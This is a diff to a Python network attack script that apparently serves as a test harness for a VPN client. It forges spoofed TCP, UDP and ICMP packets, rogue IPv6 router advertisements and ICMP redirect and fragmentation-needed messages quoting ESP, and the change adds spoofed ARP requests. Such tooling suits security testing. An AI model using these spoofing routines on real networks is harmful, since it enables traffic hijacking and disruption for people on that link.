@@ -2,7 +2,7 @@
 """What somebody on a client's link can send it. Run in the namespace of the router there, as root.
 
 usage: attack.py inject DEVICE MAC PEER:PORT ADDRESS...   to each of these addresses, as if PEER had sent it: TCP with SYN, SYN and
-                                                          ACK, ACK and RST to some ports, UDP, ping, ICMP errors
+                                                          ACK, ACK and RST to some ports, UDP, ping, ICMP errors; ARP asks for it
        attack.py advertise DEVICE PREFIX                  a router advertisement: default router, prefix (/64), resolver
        attack.py redirect DEVICE MAC GATEWAY CLIENT TARGET SPI   ICMP redirect of TARGET to GATEWAY, quoting ESP
        attack.py shrink DEVICE MAC GATEWAY CLIENT TARGET SPI     ICMP fragmentation needed, 600 bytes, quoting ESP
@@ -15,7 +15,7 @@ import socket
 import struct
 import sys
 
-IPV4, IPV6 = 0x0800, 0x86DD
+IPV4, IPV6, ARP = 0x0800, 0x86DD, 0x0806
 ICMP, TCP, UDP, ESP, ICMPV6 = 1, 6, 17, 50, 58
 SYN, RST, ACK = 2, 4, 16
 PORTS = (22, 80, 9000, 32768, 40000, 50000)
@@ -76,6 +76,8 @@ def inject(device, mac, peer, *addresses):
     for address in addresses:
         for packet in injected(socket.inet_aton(host), int(port), socket.inet_aton(address)):
             link.send(IPV4, packet)
+        link.send(ARP, struct.pack(">HHBBH6s4s6s4s", 1, IPV4, 6, 4, 1, link.own, socket.inet_aton(host), bytes(6),
+                                   socket.inet_aton(address)))
     return link.sent
 
 
